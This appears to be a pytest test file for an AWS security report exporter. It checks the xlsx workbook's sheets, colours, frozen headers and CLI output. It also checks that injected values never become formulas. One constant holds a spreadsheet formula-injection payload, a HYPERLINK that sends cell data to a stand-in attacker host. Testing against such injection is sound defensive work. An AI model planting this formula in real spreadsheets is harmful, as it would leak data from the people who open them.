"""report.xlsx: the sheets an auditor expects, the heat map's colours, and no formula anywhere
(a resource named '=HYPERLINK(...)' stays text)."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.utils import get_column_letter

from awsresp.export.tables import FINDING_COLUMNS
from awsresp.export.view import PALETTE
from awsresp.export.xlsx import SHEETS, render_xlsx
from awsresp.scanfile import parse_scan

from .conftest import run_cli
from .reportdata import two_accounts

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def _saved(doc: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in doc.items() if not k.startswith("_")}


def _book(doc: dict[str, Any]) -> Any:
    return openpyxl.load_workbook(io.BytesIO(render_xlsx(parse_scan(doc))))


def test_sheets_colours_and_frozen_headers(sandbox_scan: dict[str, Any]) -> None:
    book = _book(_saved(sandbox_scan))
    assert tuple(book.sheetnames) == SHEETS
    matrix = book["Matrix"]
    assert matrix.freeze_panes == "C2"
    assert matrix["A2"].value == "account (baseline)"
    layers = [c.value for c in matrix[1][2:14]]
    assert layers[0] == "physical" and layers[-1] == "logging-detection"
    fills = {}
    rows = len({(c["service"], c["service_class"]) for c in sandbox_scan["matrix"]})
    for row in matrix.iter_rows(min_row=2, max_row=rows + 1, min_col=3, max_col=14):
        for cell in row:
            fills.setdefault(str(cell.value).split()[0], set()).add(cell.fill.fgColor.rgb)
    gap = "FF" + PALETTE["gap"][0].lstrip("#").upper()
    aws = "FF" + PALETTE["aws"][0].lstrip("#").upper()
    assert fills["GAP"] == {gap}
    assert fills["AWS"] == {aws}
    # The legend under the table names every colour.
    legend = [c.value for c in matrix["B"] if c.value]
    assert all(meaning in legend for _bg, _fg, meaning in PALETTE.values())
    findings = book["Findings"]
    header = [c.value for c in findings[1]]
    assert len(header) == len(set(header)) == len(FINDING_COLUMNS)
    last = get_column_letter(len(header))
    assert findings.auto_filter.ref == f"A1:{last}{len(sandbox_scan['findings']) + 1}"
    assert findings.freeze_panes == "A2"
    evidence = header.index("evidence") + 1
    assert findings.cell(row=2, column=evidence).alignment.wrap_text
    assert findings.column_dimensions["K"].width > 10
    gaps = book["Gaps"]
    assert gaps.max_row == len(sandbox_scan["gaps"]) + 1
    assert gaps["A2"].value == 1 and gaps["B2"].value == "gap"
    assert book["Issues"].max_row == len(sandbox_scan["issues"]) + 1
    about = {r[0].value: r[1].value for r in book["About"].iter_rows() if r[0].value}
    assert about["Accounts"] == sandbox_scan["account"]
    assert about["evidence"]


def test_no_cell_holds_a_formula(sandbox_scan: dict[str, Any]) -> None:
    doc = _saved(sandbox_scan)
    for f in doc["findings"]:
        f["resource_name"] = FORMULA
        f["evidence"] = "=1+1"
    for i in doc["issues"]:
        i["message"] = "@SUM(A1:A9)"
    book = _book(doc)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    header = [c.value for c in book["Findings"][1]]
    column = get_column_letter(header.index("resource_name") + 1)
    names = [c.value for c in book["Findings"][column][1:]]
    assert set(names) == {FORMULA}


def test_many_accounts_have_their_columns(sandbox_scan: dict[str, Any]) -> None:
    book = _book(two_accounts(_saved(sandbox_scan)))
    assert book["Matrix"]["A1"].value == "account"
    assert book["Matrix"].freeze_panes == "D2"
    header = [c.value for c in book["Findings"][1]]
    assert header[:3] == ["account_id", "account_name", "ou_path"]
    assert len(header) == len(set(header))


def test_report_command_writes_the_workbook(sandbox_scan: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    result = run_cli(["report", sandbox_scan["_dir"], "-f", "xlsx", "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(out).sheetnames == list(SHEETS)
